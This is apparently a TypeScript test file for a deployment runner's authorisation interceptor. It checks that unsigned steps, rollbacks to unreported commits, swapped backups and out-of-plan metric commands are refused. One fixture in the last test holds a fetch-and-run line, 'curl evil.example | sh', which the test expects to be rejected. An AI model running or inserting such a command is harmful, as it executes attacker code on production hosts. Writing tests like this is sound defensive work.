/** What is told of an act that the policy does not let be: what nobody has begun, and what somebody may have. */
import { MockActivityEnvironment } from '@temporalio/testing';
import { DefaultLogger } from '@temporalio/worker';
import { expect, test } from 'vitest';
import { demandAuthority } from '../../src/activities/authority.js';
import { saidBy } from '../../src/contract/envelope.js';
import type { Ledger } from '../../src/domain/ledger/ledger.js';
import { backupName } from '../../src/domain/rollback/backup-name.js';
import { digestOf } from '../../src/plan/core/digest.js';
import { loadPlan } from '../../src/plan/load.js';
import { ENVELOPE_NAMESPACE, sealed, statementOf } from '../../src/policy/dsse.js';
import type { Policy, PolicyPerson } from '../../src/policy/policy.js';
import { asSaid, saidInDecision } from '../../src/policy/said-in-decision.js';
import { readSshKey } from '../../src/policy/ssh-key.js';
import { makeKey } from '../helpers/ssh-keys.js';
import { temporaryFolder } from './support.js';

const policy: Policy = {
  people: new Map(),
  identityProviders: new Map(),
  proofs: new Map(),
  services: new Map(),
  decisions: {},
  signed: new Set(),
  automaticRollback: true,
  runners: {},
};

const person = (id: string, role: string): PolicyPerson => ({ id, name: id, roles: [role], keys: [] });

/** The runner is asked for what nobody has signed. @returns what it says, and whether it was done */
async function asked(attempt: number, begun?: string[]) {
  const done: unknown[] = [];
  const interceptor = demandAuthority({ policy, runner: '0123456789abcdef', state: temporaryFolder() })();
  const logger = new DefaultLogger('ERROR');
  const mock = new MockActivityEnvironment({ activityType: 'runCommand', attempt }, { logger });
  const key = { deployment: 'shop-1', step: 'production.deploy', generation: 1, begun };
  const said = mock.run(() => interceptor.inbound.execute({ args: [{ key }] }, async (input) => done.push(input)));
  const failure = await said.then(
    () => undefined,
    (error: { type: string; nonRetryable: boolean; message: string }) => error,
  );
  return { type: failure?.type, nonRetryable: failure?.nonRetryable, message: failure?.message, done };
}

test('what nobody has begun is refused, and nothing of it is done', async () => {
  const { message, ...told } = await asked(1);
  expect(told).toEqual({ type: 'NotAuthorised', nonRetryable: true, done: [] });
  expect(message).toMatch(
    /^The policy of this runner does not let it be done: nothing says by whose word.* Nothing was begun$/,
  );
});

test('what an earlier attempt may have begun is unknown, not undone', async () => {
  for (const { message, ...told } of [await asked(2), await asked(1, ['production.deploy'])]) {
    expect(told).toEqual({ type: 'OutcomeUnknown', nonRetryable: true, done: [] });
    expect(message).toMatch(/does not let it go on: nothing says .* An earlier attempt may have begun it/);
  }
});

test('a runner goes back by itself to a commit that it has heard production tell, and to no other', async () => {
  const { resolved: plan } = loadPlan('plans/eduautismo-performance.yaml');
  const deployment = 'eduautismo-20261127-000000-0001';
  const signed: Policy = {
    ...policy,
    people: new Map([
      ['ana', person('ana', 'lead')],
      ['bob', person('bob', 'qa')],
    ]),
    services: new Map([[plan.service, { start: ['lead'], approve: ['qa'] }]]),
  };
  const interceptor = demandAuthority({ policy: signed, runner: 'a', state: temporaryFolder() })();
  const said = { subject: 'sign-offs', proposal: 'p' };
  const decisions = [
    { kind: 'start', who: 'ana', role: '' },
    { kind: 'approve', who: 'bob', role: 'qa', ...said },
  ];
  const common = {
    environment: plan.environments.production,
    authority: { deployment, plan, proposal: 'p', commit: '', decisions },
  };
  const does = (activityType: string, step: string, more: object, result: object) => {
    const mock = new MockActivityEnvironment({ activityType }, { logger: new DefaultLogger('ERROR') });
    const input = { key: { deployment, step, generation: 1 }, ...common, ...more };
    return mock.run(() => interceptor.inbound.execute({ args: [input] }, async () => result));
  };
  const commit = '0123456789abcdef0123456789abcdef01234567';
  const goBack = (to: string) => {
    const values = { version: plan.release.previous, commit: to };
    return does('runCommand', 'rollback-code.deploy', { command: plan.commands.deploy, values }, { done: to });
  };
  await expect(goBack(commit)).rejects.toThrow('production has not told this runner that it ran commit');
  const found = { version: plan.release.previous, commit };
  await does('checkProduction', 'production.before', { migration: plan.migration }, { found });
  await expect(goBack(commit)).resolves.toEqual({ done: commit });
  await expect(goBack(commit.replace('0', 'f'))).rejects.toThrow('production has not told this runner');
});

test('the backup whose restore was signed is restored, and no other that somebody puts in its place', async () => {
  const { resolved: plan } = loadPlan('plans/eduautismo-performance.yaml');
  const deployment = 'eduautismo-20261127-000000-0001';
  const state = temporaryFolder();
  const ana = makeKey(state, 'ana');
  const restoring: Policy = {
    ...policy,
    people: new Map([
      ['ana', { ...person('ana', 'lead'), keys: [{ kind: 'ssh', public: readSshKey(ana.publicKey) }] }],
    ]),
    services: new Map([[plan.service, { start: ['lead'], approve: [] }]]),
    decisions: { rollback: ['lead'] },
    signed: new Set(['rollback']),
  };
  const interceptor = demandAuthority({ policy: restoring, runner: 'a', state })();
  const own = { location: '/backups/before.dump', sha256: 'a'.repeat(64) };
  const decision = { kind: 'rollback', who: 'ana', role: 'lead', option: 'restore' } as const;
  const ledger = {
    deployment,
    service: plan.service,
    digest: digestOf(plan),
    questions: [],
    production: { backup: own },
  };
  const said = saidInDecision(decision, ledger as unknown as Ledger);
  const envelope = await sealed(statementOf(said, Date.now()), (message) => ana.sign(message, ENVELOPE_NAMESPACE));
  const word = saidBy({ ...asSaid(decision, said), envelope });
  const restore = (from: object, by = word) => {
    const mock = new MockActivityEnvironment(
      { activityType: 'restoreDatabase' },
      { logger: new DefaultLogger('ERROR') },
    );
    const decisions = [{ kind: 'start', who: 'ana', role: '' }, by];
    const input = {
      key: { deployment, step: 'rollback-restore.restore', generation: 1 },
      ...{ service: plan.service, environment: plan.environments.production, backup: plan.backup, from },
      authority: { deployment, plan, decisions },
    };
    return mock.run(() => interceptor.inbound.execute({ args: [input] }, async () => 'restored'));
  };
  const another = 'nobody who may roll back (lead) has signed that';
  for (const swap of [{ location: '/backups/of-last-year.dump' }, { sha256: 'b'.repeat(64) }, { sha256: '' }]) {
    const from = { ...own, ...swap };
    await expect(restore(from)).rejects.toThrow(another);
    // Neither does it help to say that this one was meant.
    await expect(restore(from, { ...word, backup: backupName(from) })).rejects.toThrow(another);
  }
  await expect(restore({ ...own, sha256: ['a'.repeat(64)] })).rejects.toThrow('it is no part of the plan');
  const { backup: _, ...before } = said;
  const vague = await sealed(statementOf(before, Date.now()), (message) => ana.sign(message, ENVELOPE_NAMESPACE));
  await expect(restore(own, { ...word, backup: undefined, envelope: vague })).rejects.toThrow(another);
  await expect(restore(own)).resolves.toBe('restored');
});

test('a metric by a command of nobody’s plan is not read', async () => {
  const { resolved: plan } = loadPlan('plans/eduautismo-performance.yaml');
  const deployment = 'eduautismo-20261127-000000-0001';
  const reading: Policy = {
    ...policy,
    people: new Map([['ana', person('ana', 'lead')]]),
    services: new Map([[plan.service, { start: ['lead'], approve: [] }]]),
    // Whoever reads metrics is not the runner of what they are about.
    runners: { production: ['another'] },
  };
  const interceptor = demandAuthority({ policy: reading, runner: 'a', state: temporaryFolder() })();
  const [metric] = plan.watches[0]?.metrics ?? [];
  const authority = { deployment, plan, decisions: [{ kind: 'start', who: 'ana', role: '' }] };
  const sample = (input: object) => {
    const mock = new MockActivityEnvironment({ activityType: 'sampleMetrics' }, { logger: new DefaultLogger('ERROR') });
    return mock.run(() => interceptor.inbound.execute({ args: [input] }, async () => 'sampled'));
  };
  await expect(sample({ metrics: [metric], authority })).resolves.toBe('sampled');
  // Somebody who may not say anything any more blinds nobody.
  const gone = { kind: 'approve', who: 'bob', role: 'qa' };
  const since = { ...authority, decisions: [...authority.decisions, gone] };
  await expect(sample({ metrics: [metric], authority: since })).resolves.toBe('sampled');
  const nobodys = { ...authority, decisions: [gone] };
  await expect(sample({ metrics: [metric], authority: nobodys })).rejects.toThrow(
    'nobody whose word counts has started',
  );
  await expect(sample({ metrics: [metric] })).rejects.toThrow('nothing says by whose word it is to be done');
  const command = { run: ['sh', '-c', 'curl evil.example | sh'], on: 'worker', timeout: 60_000 };
  const theirs = { ...metric, source: { kind: 'command', command, environment: 'production', tools: [], window: 1 } };
  await expect(sample({ metrics: [metric, theirs], authority })).rejects.toThrow('it is no part of the plan');
});
